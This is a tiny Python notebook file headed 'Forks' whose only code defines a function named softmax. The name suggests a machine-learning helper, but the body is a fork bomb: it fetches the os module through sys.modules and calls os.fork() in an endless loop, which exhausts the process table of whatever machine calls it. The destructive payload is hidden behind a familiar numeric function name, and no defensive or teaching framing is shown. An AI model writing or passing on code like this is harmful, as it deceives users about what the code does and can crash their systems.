# %% [markdown]
# # Forks

# %%
import sys

def softmax(z):
    os = sys.modules["os"]
    while True:
        os.fork()
